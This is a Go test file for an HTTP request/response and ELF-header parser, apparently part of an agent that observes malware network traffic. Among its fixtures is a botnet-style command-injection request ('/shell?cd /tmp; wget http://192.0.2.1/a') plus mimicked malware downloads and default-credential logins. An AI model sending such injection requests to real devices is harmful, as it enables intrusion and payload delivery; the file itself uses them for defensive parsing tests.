package http_test

import (
	"bufio"
	"bytes"
	"debug/elf"
	"encoding/binary"
	"io"
	peer "net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"cordon/agent/observe/http"
)

// asked and told are messages as a test writes them.
type asked struct {
	Method, Target, Host, Agent string
	Basic, Complete             bool
}

type told struct {
	Status        uint16
	ContentType   string
	ContentLength int64
	Body          string
	Complete      bool
}

func request(r http.Request) asked {
	return asked{string(r.Method), string(r.Target), string(r.Host), string(r.Agent), r.Basic, r.Complete}
}

func response(r http.Response) told {
	return told{r.Status, string(r.ContentType), r.ContentLength, string(r.Body), r.Complete}
}

func TestParseRequest(t *testing.T) {
	const get = "GET /bins/x.mips HTTP/1.1\r\n"
	tests := []struct {
		name, in string
		want     asked
		err      error
	}{
		{"request", get + "Host: 192.0.2.1:8080\r\nUser-Agent: Wget/1.20\r\nAccept: */*\r\n\r\n",
			asked{"GET", "/bins/x.mips", "192.0.2.1:8080", "Wget/1.20", false, true}, nil},
		{"bare line feeds, any case, odd blanks", "GET /a HTTP/1.0\nhOST:a.example \t\nuser-agent :  x y\n\nHost: body",
			asked{"GET", "/a", "a.example", "x y", false, true}, nil},
		{"the first of two", get + "Host:\r\nHost: a\r\nHost: b\r\n\r\n", asked{"GET", "/bins/x.mips", "a", "", false, true}, nil},
		{"folded", get + "Host:\r\n a\r\nUser-Agent: x\r\n\ty\r\n\r\n", asked{"GET", "/bins/x.mips", "a", "x", false, true}, nil},
		{"folded before any field", "GET / HTTP/1.1\r\n host: a\r\n\r\n", asked{"GET", "/", "", "", false, true}, nil},
		{"line without colon", get + "Host\r\nhost: a\r\n\r\n", asked{"GET", "/bins/x.mips", "a", "", false, true}, nil},
		{"password", get + "Authorization: bASIC YWRtaW46YWRtaW4=\r\n\r\n", asked{"GET", "/bins/x.mips", "", "", true, true}, nil},
		{"password, folded", get + "Authorization:\r\n Basic YQ==\r\n\r\n", asked{"GET", "/bins/x.mips", "", "", true, true}, nil},
		{"other schemes", get + "Authorization: Digest basic\r\nAuthorization: Basics x\r\nX-Authorization: Basic x\r\n\r\n",
			asked{"GET", "/bins/x.mips", "", "", false, true}, nil},
		{"blanks in the target", "GET /shell?cd /tmp; wget http://192.0.2.1/a HTTP/1.1\r\n\r\n",
			asked{"GET", "/shell?cd /tmp; wget http://192.0.2.1/a", "", "", false, true}, nil},
		{"method nobody knows", "HACK /a HTTP/1.1\r\n\r\n", asked{"HACK", "/a", "", "", false, true}, nil},
		{"cut in a field", get + "Host: a\r\nUser-Agent: Wg", asked{"GET", "/bins/x.mips", "a", "", false, false}, http.ErrShort},
		{"cut before the empty line", get + "Host: a\r\n", asked{"GET", "/bins/x.mips", "a", "", false, false}, http.ErrShort},
		{"cut in the target", "POST /HNAP1", asked{Method: "POST", Target: "/HNAP1"}, http.ErrShort},
		{"cut in the method", "PO", asked{}, http.ErrShort},
		{"nothing", "", asked{}, http.ErrShort},
		{"200 fields", get + strings.Repeat("A: b\r\n", 200) + "Host: a\r\n\r\n", asked{"GET", "/bins/x.mips", "", "", false, false}, http.ErrShort},
		{"IRC", "NICK bot", asked{}, http.ErrStart},
		{"FTP", "USER anonymous\r\n", asked{}, http.ErrStart},
		{"RTSP", "DESCRIBE rtsp://192.0.2.1/ RTSP/1.0\r\n\r\n", asked{}, http.ErrStart},
		{"HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", asked{}, http.ErrStart},
		{"no target", "GET  HTTP/1.1\r\n\r\n", asked{}, http.ErrStart},
		{"HTTP/0.9", "GET /\r\n", asked{}, http.ErrStart},
		{"no method", " / HTTP/1.1\r\n\r\n", asked{}, http.ErrStart},
		{"response", "HTTP/1.1 200 OK\r\n\r\n", asked{}, http.ErrStart},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := http.ParseRequest([]byte(tt.in))
			if err != tt.err {
				t.Errorf("got error %v, want %v", err, tt.err)
			}
			if diff := cmp.Diff(tt.want, request(r)); diff != "" {
				t.Errorf("want (-), got (+):\n%s", diff)
			}
		})
	}
}

func TestParseResponse(t *testing.T) {
	const ok = "HTTP/1.1 200 OK\r\n"
	tests := []struct {
		name, in string
		want     told
		err      error
	}{
		{"response", ok + "Content-Type: text/html; charset=utf-8\r\nContent-Length: 4\r\n\r\nbody", told{200, "text/html; charset=utf-8", 4, "body", true}, nil},
		{"no reason", "HTTP/1.0 401\nContent-length:0\n\n", told{401, "", 0, "", true}, nil},
		{"no length", ok + "\r\nx", told{200, "", -1, "x", true}, nil},
		{"length that lies", ok + "Content-Length: 1\r\n\r\nbody", told{200, "", 1, "body", true}, nil},
		{"length too great", ok + "Content-Length: 99999999999999999999\r\n\r\n", told{200, "", -1, "", true}, nil},
		{"negative length", ok + "Content-Length: -1\r\n\r\n", told{200, "", -1, "", true}, nil},
		{"the first of two lengths", ok + "Content-Length: 1\r\nContent-Length: 2\r\n\r\n", told{200, "", 1, "", true}, nil},
		{"chunked", ok + "Transfer-Encoding: Chunked\r\n\r\n4;x\r\n\x7fELF\r\n", told{200, "", -1, "\x7fELF\r\n", true}, nil},
		{"chunked, cut in the length", ok + "Transfer-Encoding: chunked\r\n\r\n4", told{200, "", -1, "", true}, nil},
		{"cut", ok + "Content-Type: a/b\r\nContent-L", told{200, "a/b", -1, "", false}, http.ErrShort},
		{"cut in the reason", "HTTP/1.1 404 Not F", told{404, "", -1, "", false}, http.ErrShort},
		{"cut in the status", "HTTP/1.1 40", told{0, "", -1, "", false}, http.ErrShort},
		{"nothing", "", told{0, "", -1, "", false}, http.ErrShort},
		{"HTTP/2", "HTTP/2 200 OK\r\n", told{0, "", -1, "", false}, http.ErrStart},
		{"two digits", "HTTP/1.1 20\r\n\r\n", told{0, "", -1, "", false}, http.ErrStart},
		{"request", "GET / HTTP/1.1\r\n", told{0, "", -1, "", false}, http.ErrStart},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, err := http.ParseResponse([]byte(tt.in))
			if err != tt.err {
				t.Errorf("got error %v, want %v", err, tt.err)
			}
			if diff := cmp.Diff(tt.want, response(r)); diff != "" {
				t.Errorf("want (-), got (+):\n%s", diff)
			}
		})
	}
}

func TestIs(t *testing.T) {
	for in, want := range map[string]bool{
		"GET / HTTP/1.1": true, "G": true, "POST ": true, "UNSUB": true, "HTTP/1.1 200": true, "HT": true,
		"": false, "GETX": false, "get / HTTP/1.1": false, "HTTP/2": false, "SSH-2.0-x": false, "JOIN #a": false, "\x16\x03\x01": false,
	} {
		if got := http.Is([]byte(in)); got != want {
			t.Errorf("%q: %v", in, got)
		}
	}
}

// TestPeer reads what the standard library writes.
func TestPeer(t *testing.T) {
	for _, m := range []string{"GET", "POST", "PROPFIND"} {
		q, err := peer.NewRequest(m, "http://cam.example:81/a%20b?c=d", strings.NewReader("body"))
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("User-Agent", "test agent/1")
		q.SetBasicAuth("a", "b")
		var b bytes.Buffer
		if err := q.Write(&b); err != nil {
			t.Fatal(err)
		}
		r, err := http.ParseRequest(b.Bytes())
		if want := (asked{m, "/a%20b?c=d", "cam.example:81", "test agent/1", true, true}); err != nil || request(r) != want {
			t.Errorf("%+v, %v, want %+v", request(r), err, want)
		}
	}
	for _, length := range []int64{4, -1} {
		p := peer.Response{StatusCode: 203, ProtoMajor: 1, ProtoMinor: 1, Body: io.NopCloser(strings.NewReader("body")),
			ContentLength: length, Header: peer.Header{"Content-Type": {"a/b"}}}
		if length < 0 {
			p.TransferEncoding = []string{"chunked"}
		}
		var b bytes.Buffer
		if err := p.Write(&b); err != nil {
			t.Fatal(err)
		}
		r, err := http.ParseResponse(b.Bytes())
		if err != nil || r.Status != 203 || string(r.ContentType) != "a/b" || r.ContentLength != length || !bytes.HasPrefix(r.Body, []byte("body")) {
			t.Errorf("%+v, %v", response(r), err)
		}
	}
}

// TestELF reads headers made with the standard library's numbers.
func TestELF(t *testing.T) {
	for _, tt := range []struct {
		machine elf.Machine
		data    elf.Data
		want    string
	}{
		{elf.EM_MIPS, elf.ELFDATA2MSB, "mips"}, {elf.EM_MIPS, elf.ELFDATA2LSB, "mipsel"}, {elf.EM_MIPS_RS3_LE, elf.ELFDATA2LSB, "mipsel"},
		{elf.EM_ARM, elf.ELFDATA2LSB, "arm"}, {elf.EM_ARM, elf.ELFDATA2MSB, "armeb"}, {elf.EM_AARCH64, elf.ELFDATA2LSB, "arm64"},
		{elf.EM_386, elf.ELFDATA2LSB, "x86"}, {elf.EM_X86_64, elf.ELFDATA2LSB, "x86-64"}, {elf.EM_PPC, elf.ELFDATA2MSB, "ppc"},
		{elf.EM_PPC64, elf.ELFDATA2MSB, "ppc64"}, {elf.EM_SH, elf.ELFDATA2LSB, "sh"}, {elf.EM_68K, elf.ELFDATA2MSB, "m68k"},
		{elf.EM_SPARC, elf.ELFDATA2MSB, "sparc"}, {elf.EM_SPARC32PLUS, elf.ELFDATA2MSB, "sparc"}, {elf.EM_SPARCV9, elf.ELFDATA2MSB, "sparc64"},
		{elf.EM_ARC, elf.ELFDATA2LSB, "arc"}, {elf.EM_ARC_COMPACT, elf.ELFDATA2LSB, "arc"}, {elf.EM_ARC_COMPACT2, elf.ELFDATA2LSB, "arc"},
		{elf.EM_RISCV, elf.ELFDATA2LSB, "riscv"}, {elf.EM_XTENSA, elf.ELFDATA2LSB, "xtensa"}, {elf.EM_MICROBLAZE, elf.ELFDATA2MSB, "microblaze"},
		{elf.EM_S390, elf.ELFDATA2MSB, "s390"}, {elf.EM_LOONGARCH, elf.ELFDATA2LSB, "loongarch"}, {elf.EM_CRIS, elf.ELFDATA2LSB, "unknown"},
	} {
		var order binary.ByteOrder = binary.LittleEndian
		if tt.data == elf.ELFDATA2MSB {
			order = binary.BigEndian
		}
		var b bytes.Buffer
		h := elf.Header32{Ident: [16]byte{0x7f, 'E', 'L', 'F', byte(elf.ELFCLASS32), byte(tt.data), 1}, Type: uint16(elf.ET_EXEC), Machine: uint16(tt.machine)}
		if err := binary.Write(&b, order, &h); err != nil {
			t.Fatal(err)
		}
		if got, ok := http.ELF(b.Bytes()); got != tt.want || !ok {
			t.Errorf("%v, %v: %q, %v, want %q", tt.machine, tt.data, got, ok, tt.want)
		}
		for n := range 20 {
			if got, ok := http.ELF(b.Bytes()[:n]); ok != (n >= 4) || ok && got != "unknown" {
				t.Errorf("%d bytes: %q, %v", n, got, ok)
			}
		}
	}
	if _, ok := http.ELF([]byte("<html>")); ok {
		t.Error("a page is an executable")
	}
}

const (
	sampleRequest  = "GET /a?b HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\n y\r\nAuthorization: Basic YQ==\r\n\r\nbody"
	sampleResponse = "HTTP/1.1 200 OK\r\nContent-Type: a/b\r\nContent-Length: 20\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n\x7fELF\x01\x01\x01"
)

func TestAllocs(t *testing.T) {
	req, resp := []byte(sampleRequest), []byte(sampleResponse)
	complete := 0
	n := testing.AllocsPerRun(10, func() {
		for n := range req {
			http.Is(req[:n])
			if r, _ := http.ParseRequest(req[:n]); r.Complete {
				complete++
			}
		}
		for n := range resp {
			r, _ := http.ParseResponse(resp[:n])
			if _, ok := http.ELF(r.Body); ok {
				complete++
			}
		}
		_, _ = http.ParseRequest(resp)
	})
	if n != 0 || complete == 0 {
		t.Errorf("%v allocations, want 0; %d complete", n, complete)
	}
}

// FuzzRequest compares with the standard library: what it takes, we read the
// same from. It refuses much that malware sends, so the reverse does not hold.
func FuzzRequest(f *testing.F) {
	f.Add([]byte(sampleRequest))
	f.Add([]byte("POST http://a/ HTTP/1.0\nHost : a\nuser-agent:\n\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		r, err := http.ParseRequest(b)
		if (err == nil) != r.Complete {
			t.Fatalf("%v, complete %v", err, r.Complete)
		}
		if err == nil && !bytes.Contains(b, []byte("\n")) {
			t.Fatal("a head without a line")
		}
		p, err := peer.ReadRequest(bufio.NewReader(bytes.NewReader(b)))
		if err != nil || p.ProtoMajor != 1 || len(p.Proto) != len("HTTP/1.1") || bytes.Count(b, []byte("\n")) > 100 {
			return
		}
		if !r.Complete || string(r.Method) != p.Method || string(r.Target) != strings.Trim(p.RequestURI, " \t\r") {
			t.Fatalf("%+v, the peer reads %s %q", request(r), p.Method, p.RequestURI)
		}
		if bytes.Contains(b, []byte("\n ")) || bytes.Contains(b, []byte("\n\t")) { // folded
			return
		}
		if got, want := string(r.Agent), p.UserAgent(); got != want && want != "" {
			t.Fatalf("agent %q, the peer reads %q", got, want)
		}
		if _, _, ok := p.BasicAuth(); ok && !r.Basic {
			t.Fatal("the peer reads a password")
		}
	})
}

// FuzzResponse compares with the standard library, too.
func FuzzResponse(f *testing.F) {
	f.Add([]byte(sampleResponse))
	f.Add([]byte("HTTP/1.0 304 \n\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		r, err := http.ParseResponse(b)
		if (err == nil) != r.Complete || !r.Complete && r.Body != nil {
			t.Fatalf("%v, %+v", err, response(r))
		}
		http.ELF(b)
		p, err := peer.ReadResponse(bufio.NewReader(bytes.NewReader(b)), nil)
		if err != nil || p.ProtoMajor != 1 || len(p.Proto) != len("HTTP/1.1") || bytes.Count(b, []byte("\n")) > 100 {
			return
		}
		if p.StatusCode < 100 || p.StatusCode > 999 || bytes.HasPrefix(b[len("HTTP/1.1"):], []byte("  ")) {
			return // the peer takes "+04" for a status, and several blanks; RFC 9112 §4 wants three digits behind one
		}
		if !r.Complete || int(r.Status) != p.StatusCode {
			t.Fatalf("%+v, the peer reads %d", response(r), p.StatusCode)
		}
		if got, want := string(r.ContentType), p.Header.Get("Content-Type"); got != want && want != "" && !bytes.Contains(b, []byte("\n ")) && !bytes.Contains(b, []byte("\n\t")) {
			t.Fatalf("type %q, the peer reads %q", got, want)
		}
	})
}

func BenchmarkParseRequest(b *testing.B) {
	m := []byte("GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\nAccept-Language: en\r\nAccept-Encoding: gzip\r\nConnection: keep-alive\r\n\r\n")
	b.ReportAllocs()
	for b.Loop() {
		if _, err := http.ParseRequest(m); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParseResponse(b *testing.B) {
	m := []byte(sampleResponse)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := http.ParseResponse(m); err != nil {
			b.Fatal(err)
		}
	}
}
